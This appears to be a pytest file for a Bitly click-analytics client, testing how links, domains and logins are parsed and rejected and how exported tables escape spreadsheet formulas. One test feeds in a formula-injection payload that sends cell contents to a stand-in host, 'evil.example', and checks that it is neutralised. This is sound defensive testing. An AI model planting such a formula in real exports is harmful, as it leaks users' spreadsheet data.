"""Names as people and upstream write them: what a question takes, what is offered, what is not."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from apptest import address, opened, table, tables
from support import write_clicks

from bitly_data.client import Client
from bitly_data.errors import QuestionError
from bitly_data.query import LINK, ClickQuery, parse_domain, parse_link, parse_login
from bitly_data.settings import CLICK_LOG, Settings
from bitly_data.sources import model
from bitly_data.sources.v3 import wire as v3

ODD = (
    ("2013-05-17T02:00:00", "a_b.co/Ab", "ann lee", "http://ex.com/a", 1),
    ("2013-05-17T02:00:00", "localhost/ü", "bjørn", "http://ex.com/b", 2),
    ("2013-05-17T02:00:00", "bücher.example/日本", "=1+1", "http://ex.com/c", 4),
    ("2013-05-17T02:00:00", "go.ex.com/a'b*(c)", "o'hara", "http://ex.com/d", 8),
)


@pytest.mark.parametrize(
    ("text", "link"),
    [
        ("bit.ly/2uNgpk4", "bit.ly/2uNgpk4"),
        (" https://BIT.ly/Abc/?x=1#y ", "bit.ly/Abc"),
        ("bit.ly/abc+", "bit.ly/abc"),
        ("bit.ly/a-b_c.d~e", "bit.ly/a-b_c.d~e"),
        ("a_b.co/x", "a_b.co/x"),
        ("localhost/ü", "localhost/ü"),
        ("HTTP://bit.ly/🎉", "bit.ly/🎉"),
    ],
)
def test_a_link_is_host_and_back_half(text: str, link: str) -> None:
    assert parse_link(text) == link
    assert parse_link(f"http://{link}") == link


@pytest.mark.parametrize(
    "text",
    [
        "",
        "bit.ly",
        "bit.ly/",
        "/abc",
        "http:///abc",
        "bit.ly:80/a",
        "me:word@bit.ly/a",
        "bit.ly/a/b",
        "bit.ly//a",
        "bit.ly/a b",
        "ftp://bit.ly/x",
        "javascript:bit.ly/x",
        "bit.ly/a\u2028b",
        "bit.ly/a\x00",
        "bit ly/a",
        "bit.ly/\u202eabc",
        "bit.ly/" + "a" * 300,
        "bit.ly\\a/b",
    ],
)
def test_what_is_no_link(text: str) -> None:
    with pytest.raises(QuestionError, match="not a Bitlink"):
        parse_link(text)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "a b.com",
        "http://a.com",
        "a.com/x",
        "a.com:80",
        "a\tb.com",
        "x@a.com",
        "a,b.com",
        "a" * 300,
    ],
)
def test_what_is_no_domain(text: str) -> None:
    with pytest.raises(QuestionError, match="not a domain"):
        parse_domain(text)


@pytest.mark.parametrize("text", ["", "  ", "a\nb", "a\x7fb", "a\ud800b", "a" * 300])
def test_what_is_no_login(text: str) -> None:
    with pytest.raises(QuestionError, match="login"):
        parse_login(text)


def test_whatever_a_log_offers_can_be_asked(tmp_path: Path) -> None:
    connection = Client.open(
        Settings(kind=CLICK_LOG, click_log=(write_clicks(tmp_path / "odd.log", ODD),), now="latest")
    )
    source = connection.source
    account = source.fetch_account()
    end = connection.newest_click
    assert set(account.short_domains) == {link.split("/")[0] for _, link, *_ in ODD}
    assert set(account.logins) >= {login for _, _, login, *_ in ODD}
    for _, link, login, _, count in ODD:
        domain = link.split("/")[0]
        for query in (
            ClickQuery(domains=(domain,), until=end),
            ClickQuery(login=login, until=end),
            ClickQuery(target=LINK, link=link, until=end),
        ):
            assert source.fetch(query).clicks.sum() == count, query
    links, total = source.fetch_links()
    assert {link.link for link in links} == {link for _, link, *_ in ODD}
    assert total == len(ODD)


def test_a_pasted_link_and_zone_stand_in_the_address_in_one_spelling(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    clicks = [("2013-05-17T02:00:00", "go.ex.com/🎉", "ann", "http://ex.com/a", 4)]
    monkeypatch.setenv("BITLY_CLICK_LOG", write_clicks(tmp_path / "clicks.log", clicks))
    for link in ("go.ex.com/🎉", "<https://go.ex.com/%F0%9F%8E%89>.", "“go.ex.com/%f0%9f%8e%89”,"):
        app = opened("link", link=link, tz="Etc/GMT 5", until="20130516", units="2")
        assert set(table(app)["Series"]) == {"go.ex.com/🎉"}
        assert {name: address(app)[name] for name in ("link", "tz", "until")} == {
            "link": ["go.ex.com/🎉"],
            "tz": ["Etc/GMT+5"],
            "until": ["2013-05-16T05:00:00Z"],
        }
        # 21:00 of the 16th there; the log has no line of the day before.
        assert table(app)["Clicks"].dropna().tolist() == [4]


def test_what_cannot_be_asked_for_is_not_offered_and_does_not_stop_the_list() -> None:
    history = [
        {"link": link}
        for link in (
            "http://bit.ly/a",
            "http://bit.ly/a/b",
            None,
            7,
            "http://go.ex.com:81/x",
            "http://bit.ly/c",
        )
    ]
    body = json.dumps(
        {
            "status_code": 200,
            "status_txt": "OK",
            "data": {"link_history": [*history, "words"], "result_count": 9},
        }
    ).encode()
    page = v3.parse_links(v3.LINK_HISTORY, 200, body)
    assert [link.link for link in page.links] == ["bit.ly/a", "bit.ly/c"]
    assert (page.listed, page.total) == (7, 9)
    body = json.dumps(
        {
            "status_code": 200,
            "status_txt": "OK",
            "data": {
                "login": "ann",
                "domain_options": ["go.ex.com", "a b", 7, "x/y"],
                "sub_accounts": ["bob", "a\nb", {"login": "eve"}],
            },
        }
    ).encode()
    assert v3.parse_account(v3.USER_INFO, 200, body) == model.Account(
        login="ann", short_domains=("go.ex.com",), logins=("ann", "bob", "eve")
    )


@pytest.mark.parametrize(
    ("login", "cell"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1)', '\'=HYPERLINK("http://evil.example/?"&A1)'),
        ("a;＝1+1", "a;'＝1+1"),
    ],
)
def test_no_table_of_a_page_has_a_formula_in_it(
    login: str, cell: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A reader can take each of them away as a CSV file that the browser makes."""
    monkeypatch.setenv(
        "BITLY_CLICK_LOG",
        write_clicks(
            tmp_path / "clicks.log",
            [("2013-05-17T02:00:00", "go.ex.com/Ab", login, "http://ex.com/a", 1)],
        ),
    )
    assert set(table(opened("overview", units="2", login=login))["Series"]) == {cell}


def test_nor_has_the_list_of_lines_that_could_not_be_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "=1+1").write_text('what\n{"t": 1360000800, "hh": "s.co", "h": "a"}\n')
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("BITLY_CLICK_LOG", "=1+1")
    (lines,) = tables(opened("overview", units="2"), "Reason")
    assert lines["File"].tolist() == ["'=1+1"]
